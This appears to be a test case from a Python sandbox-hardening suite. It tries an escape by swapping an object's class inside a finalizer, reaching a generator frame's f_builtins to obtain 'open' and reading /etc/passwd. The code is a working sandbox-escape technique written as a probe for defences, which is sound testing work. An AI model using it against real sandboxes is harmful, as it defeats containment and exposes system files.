# tries: a finalizer that swaps the class between guard and read
# class: hooks
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


class Plain:
    def __init__(self):
        self.gi_frame = None


class Swap:
    def __init__(self, target):
        self.target = target

    def __del__(self):
        self.target.__class__ = Other


class Other:
    @property
    def gi_frame(self):
        return (x for x in ()).gi_frame


p = Plain()
del p.gi_frame
s = Swap(p)
del s
use(pick(p.gi_frame))
